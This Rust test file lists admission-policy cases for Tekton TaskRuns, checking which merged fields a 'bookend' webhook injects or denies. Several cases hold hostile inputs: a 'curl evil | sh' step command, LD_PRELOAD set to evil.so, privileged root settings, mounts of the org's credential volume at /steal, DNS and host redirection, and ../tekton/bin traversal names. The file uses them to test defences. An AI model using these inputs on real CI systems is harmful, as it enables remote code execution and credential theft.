//! Class 4: fields Tekton merges into every step (docs/tekton-notes.md, "What reaches every
//! step"). The stepTemplate goes into the author's own steps; the rest is refused with the
//! field and the fix; harmless Pod-level fields stay.

use serde_json::{Value, json};

use crate::cases::{Case, Expect, build_step, inline};

fn with(path: &[&str], value: Value) -> Value {
    let mut taskrun = inline(
        json!([build_step(), {"name": "test", "image": "golang", "command": ["go", "test"]}]),
    );
    let mut at = &mut taskrun;
    for key in &path[..path.len() - 1] {
        at = &mut at[*key];
    }
    at[path[path.len() - 1]] = value;
    taskrun
}

fn template(value: Value) -> Value {
    with(&["spec", "taskSpec", "stepTemplate"], value)
}

pub fn cases() -> Vec<Case> {
    let mut cases = vec![
        Case {
            name: "merged/stepTemplate env LD_PRELOAD stays with the author's steps",
            namespace: "team-a",
            taskrun: template(
                json!({"env": [{"name": "LD_PRELOAD", "value": "/workspace/evil.so"}, {"name": "CREDS_MODE", "value": "off"}]}),
            ),
            expect: Expect::Injected,
        },
        Case {
            name: "merged/stepTemplate command (an org step without one would run it)",
            namespace: "team-a",
            taskrun: {
                let mut t = template(
                    json!({"command": ["/bin/sh", "-c", "curl evil | sh"], "args": ["x"]}),
                );
                // The author's steps without script of their own (Tekton refuses a script under a
                // template command, and so does bookend: the next case).
                t["spec"]["taskSpec"]["steps"][0] = json!({"name": "build", "image": "golang"});
                t
            },
            expect: Expect::Injected,
        },
        Case {
            name: "merged/stepTemplate command over the author's script step",
            namespace: "team-a",
            taskrun: template(json!({"command": ["/bin/bash"]})),
            expect: Expect::Denied(
                "spec.taskSpec.steps[0].script: script cannot be used with command",
            ),
        },
        Case {
            name: "merged/stepTemplate mounts over /bin, workingDir, securityContext, resources, image",
            namespace: "team-a",
            taskrun: template(
                json!({"volumeMounts": [{"name": "w", "mountPath": "/bin"}], "workingDir": "/evil",
                "securityContext": {"runAsUser": 0, "privileged": true}, "image": "evil",
                "computeResources": {"limits": {"memory": "1Mi"}}, "envFrom": [{"secretRef": {"name": "s"}}],
                "imagePullPolicy": "Never", "volumeDevices": [{"name": "d", "devicePath": "/dev/x"}]}),
            ),
            expect: Expect::Injected,
        },
        Case {
            name: "merged/stepTemplate over a StepAction step cannot be kept from org steps",
            namespace: "team-a",
            taskrun: inline(json!([{"name": "clone", "ref": {"name": "git-clone"}}]))
                .as_object()
                .map(|_| {
                    let mut t = inline(json!([{"name": "clone", "ref": {"name": "git-clone"}}]));
                    t["spec"]["taskSpec"]["stepTemplate"] =
                        json!({"env": [{"name": "A", "value": "b"}]});
                    t
                })
                .unwrap(),
            expect: Expect::Denied("spec.taskSpec.stepTemplate"),
        },
        Case {
            name: "merged/stepSpecs naming an org step (an OOM-sized limit)",
            namespace: "team-a",
            taskrun: with(
                &["spec", "stepSpecs"],
                json!([{"name": "bookend-upload", "computeResources": {"limits": {"memory": "1Ki"}}}]),
            ),
            expect: Expect::Denied("spec.stepSpecs[0].name"),
        },
        Case {
            name: "merged/stepSpecs naming the author's step",
            namespace: "team-a",
            taskrun: with(
                &["spec", "stepSpecs"],
                json!([{"name": "build", "computeResources": {"limits": {"memory": "1Gi"}}}]),
            ),
            expect: Expect::Injected,
        },
        Case {
            name: "merged/TaskRun-level computeResources",
            namespace: "team-a",
            taskrun: with(
                &["spec", "computeResources"],
                json!({"limits": {"memory": "1Ki"}}),
            ),
            expect: Expect::Denied("spec.computeResources"),
        },
        Case {
            name: "merged/podTemplate env overrides the policy's",
            namespace: "team-a",
            taskrun: with(
                &["spec", "podTemplate"],
                json!({"env": [{"name": "CREDS_MODE", "value": "off"}]}),
            ),
            expect: Expect::Denied("spec.podTemplate.env[0]"),
        },
        Case {
            name: "merged/podTemplate hostAliases point the upload host at the author",
            namespace: "team-a",
            taskrun: with(
                &["spec", "podTemplate"],
                json!({"hostAliases": [{"ip": "10.0.0.66", "hostnames": ["sbom.example"]}]}),
            ),
            expect: Expect::Denied("spec.podTemplate.hostAliases"),
        },
        Case {
            name: "merged/podTemplate dnsConfig",
            namespace: "team-a",
            taskrun: with(
                &["spec", "podTemplate"],
                json!({"dnsConfig": {"nameservers": ["10.0.0.66"]}}),
            ),
            expect: Expect::Denied("spec.podTemplate.dnsConfig"),
        },
        Case {
            name: "merged/podTemplate dnsPolicy",
            namespace: "team-a",
            taskrun: with(&["spec", "podTemplate"], json!({"dnsPolicy": "None"})),
            expect: Expect::Denied("spec.podTemplate.dnsPolicy"),
        },
        Case {
            name: "merged/podTemplate hostNetwork",
            namespace: "team-a",
            taskrun: with(&["spec", "podTemplate"], json!({"hostNetwork": true})),
            expect: Expect::Denied("spec.podTemplate.hostNetwork"),
        },
        Case {
            name: "merged/podTemplate scheduling fields are harmless",
            namespace: "team-a",
            taskrun: with(
                &["spec", "podTemplate"],
                json!({"nodeSelector": {"disk": "ssd"}, "tolerations": [{"key": "k", "operator": "Exists"}]}),
            ),
            expect: Expect::Injected,
        },
        Case {
            name: "merged/hermetic execution mode takes the org steps' network",
            namespace: "team-a",
            taskrun: with(
                &["metadata", "annotations"],
                json!({"experimental.tekton.dev/execution-mode": "hermetic"}),
            ),
            expect: Expect::Denied("experimental.tekton.dev/execution-mode"),
        },
        Case {
            name: "merged/a breakpoint before an org step",
            namespace: "team-a",
            taskrun: with(
                &["spec", "debug"],
                json!({"breakpoints": {"beforeSteps": ["bookend-upload"]}}),
            ),
            expect: Expect::Denied("spec.debug.breakpoints.beforeSteps[0]"),
        },
        Case {
            name: "merged/v1beta1 stepOverrides naming an org step",
            namespace: "team-a",
            taskrun: {
                let mut t = with(
                    &["spec", "stepOverrides"],
                    json!([{"name": "bookend-sbom", "resources": {"limits": {"cpu": "1m"}}}]),
                );
                t["apiVersion"] = json!("tekton.dev/v1beta1");
                t
            },
            expect: Expect::Denied("spec.stepOverrides[0].name"),
        },
        Case {
            name: "merged/sidecars run beside every step (documented, allowed)",
            namespace: "team-a",
            taskrun: with(
                &["spec", "taskSpec", "sidecars"],
                json!([{"name": "db", "image": "postgres"}]),
            ),
            expect: Expect::Injected,
        },
    ];
    for (path, expect) in [
        (
            "/bin",
            Expect::Denied("spec.taskSpec.workspaces[0].mountPath"),
        ),
        (
            "/usr/local/bin",
            Expect::Denied("spec.taskSpec.workspaces[0].mountPath"),
        ),
        ("/", Expect::Denied("spec.taskSpec.workspaces[0].mountPath")),
        (
            "/workspace",
            Expect::Denied("spec.taskSpec.workspaces[0].mountPath"),
        ),
        // An org step's own mount: Tekton's rule, with its words.
        (
            "/bookend",
            Expect::Denied("workspace mount path \"/bookend\" must be unique"),
        ),
        (
            "/syft",
            Expect::Denied("spec.taskSpec.workspaces[0].mountPath"),
        ),
        (
            "$(params.where)",
            Expect::Denied("spec.taskSpec.workspaces[0].mountPath"),
        ),
        // Outside /workspace: not by default (a Task could mount over /go, /kaniko, … whatever
        // an org step's image keeps there).
        (
            "/messages",
            Expect::Denied("allows workspaces only under /workspace"),
        ),
        (
            "/go",
            Expect::Denied("allows workspaces only under /workspace"),
        ),
        ("/workspace/src", Expect::Injected),
    ] {
        let name: &'static str =
            Box::leak(format!("merged/a workspace mounted at {path}").into_boxed_str());
        cases.push(Case {
            name,
            namespace: "team-a",
            taskrun: with(
                &["spec", "taskSpec", "workspaces"],
                json!([{"name": "w", "mountPath": path}]),
            ),
            expect,
        });
    }
    // Where the policy says workspaceMounts: Anywhere: anywhere but system directories and the
    // directories its steps run from.
    for (path, expect) in [
        ("/messages", Expect::Injected),
        (
            "/bin",
            Expect::Denied("would replace what they run from (/bin)"),
        ),
        (
            "/opt/x",
            Expect::Denied("would replace what they run from (/opt)"),
        ),
    ] {
        let mut taskrun = with(
            &["spec", "taskSpec", "workspaces"],
            json!([{"name": "w", "mountPath": path}]),
        );
        taskrun["metadata"]["namespace"] = json!("open");
        cases.push(Case {
            name: Box::leak(
                format!("merged/workspaceMounts: Anywhere, at {path}").into_boxed_str(),
            ),
            namespace: "open",
            taskrun,
            expect,
        });
    }
    // The author's mounts of bookend's volumes (the org's secrets) and of Tekton's internal ones
    // (a sidecar runs beside every step and could rewrite an org step's script or the exit codes
    // bookend's gates read).
    let mount = |name: &str, path: &str| json!([{"name": name, "mountPath": path}]);
    for (what, field, value, says) in [
        (
            "a user step mounts the org's volume",
            "steps",
            json!([{"name": "build", "image": "golang", "volumeMounts": mount("bookend-creds-vol", "/steal")}]),
            "spec.taskSpec.steps[0].volumeMounts[0].name",
        ),
        (
            "a sidecar mounts the org's volume",
            "sidecars",
            json!([{"name": "s", "image": "x", "volumeMounts": mount("bookend-sbom-vol", "/steal")}]),
            "spec.taskSpec.sidecars[0].volumeMounts[0].name",
        ),
        (
            "a sidecar mounts Tekton's scripts",
            "sidecars",
            json!([{"name": "s", "image": "x", "volumeMounts": mount("tekton-internal-scripts", "/s")}]),
            "Tekton's own volumes",
        ),
        (
            "a sidecar mounts a step's run directory",
            "sidecars",
            json!([{"name": "s", "image": "x", "volumeMounts": mount("anything", "/tekton/run/3")}]),
            "Tekton's own volumes",
        ),
        (
            "a sidecar mounts an org step's credential home",
            "sidecars",
            json!([{"name": "s", "image": "x", "volumeMounts": mount("tekton-creds-init-home-0", "/creds")}]),
            "Tekton's own volumes",
        ),
        (
            "the stepTemplate mounts the org's volume",
            "stepTemplate",
            json!({"volumeMounts": mount("bookend-creds-vol", "/steal")}),
            "spec.taskSpec.stepTemplate.volumeMounts[0].name",
        ),
    ] {
        cases.push(Case {
            name: Box::leak(format!("merged/{what}").into_boxed_str()),
            namespace: "team-a",
            taskrun: with(&["spec", "taskSpec", field], value),
            expect: Expect::Denied(says),
        });
    }
    // A stepTemplate written into many steps: bounded before any work (it once took gigabytes).
    let mut big = inline(Value::Array(
        (0..400)
            .map(|i| json!({"name": format!("s{i}"), "image": "b"}))
            .collect(),
    ));
    big["spec"]["taskSpec"]["stepTemplate"] = json!({"env": (0..60).map(|i| json!({"name": format!("V{i}"), "value": "x".repeat(500)})).collect::<Vec<_>>()});
    cases.push(Case {
        name: "merged/a stepTemplate that would be written into every step many times over",
        namespace: "team-a",
        taskrun: big,
        expect: Expect::Denied("the stepTemplate would add about"),
    });
    // Found by a reviewer trying to break the claim (round 2).
    let workspace = |name: &str| {
        let mut t = inline(json!([build_step()]));
        t["spec"]["workspaces"] = json!([{"name": name, "emptyDir": {}}]);
        t
    };
    for name in ["../tekton/bin", "../usr/bin", "../tekton/steps"] {
        cases.push(Case {
            name: Box::leak(format!("merged/a bound workspace named {name}").into_boxed_str()),
            namespace: "team-a",
            taskrun: workspace(name),
            expect: Expect::Denied("spec.workspaces[0].name"),
        });
    }
    let mut declared = workspace("src");
    declared["spec"]["taskSpec"]["workspaces"] = json!([{"name": "../tekton/bin"}]);
    cases.push(Case {
        name: "merged/a declared workspace named ../tekton/bin",
        namespace: "team-a",
        taskrun: declared,
        expect: Expect::Denied("spec.taskSpec.workspaces[0]"),
    });
    let mut substituted = inline(
        json!([{"name": "build", "image": "golang", "script": "go build",
        "volumeMounts": [{"name": "$(params.vol)", "mountPath": "/steal"}]}]),
    );
    substituted["spec"]["params"] = json!([{"name": "vol", "value": "bookend-creds-vol"}]);
    cases.push(Case {
        name: "merged/a mount name Tekton substitutes from a param",
        namespace: "team-a",
        taskrun: substituted,
        expect: Expect::Denied("substitutes variables into mount names"),
    });
    let mut sidecar = workspace("signals");
    sidecar["spec"]["taskSpec"]["workspaces"] = json!([{"name": "signals"}]);
    sidecar["spec"]["taskSpec"]["sidecars"] = json!([{"name": "watch", "image": "busybox",
        "script": "true", "volumeMounts": [{"name": "$(workspaces.signals.volume)", "mountPath": "/signals"}]}]);
    cases.push(Case {
        name: "merged/a sidecar mounts its workspace's volume by variable (Tekton's example)",
        namespace: "team-a",
        taskrun: sidecar,
        expect: Expect::Injected,
    });
    let mut long = inline(
        json!([{"name": "build", "image": "golang", "script": "go build",
        "env": (0..1000).map(|i| json!({"name": format!("V{i}"), "value": "x"})).collect::<Vec<_>>()}]),
    );
    long["spec"]["taskSpec"]["stepTemplate"] = json!({"env": [{"name": "A", "value": "b"}]});
    cases.push(Case {
        name: "merged/a step's long env list under a stepTemplate (merge cost)",
        namespace: "team-a",
        taskrun: long,
        expect: Expect::Denied("env entries"),
    });
    cases
}
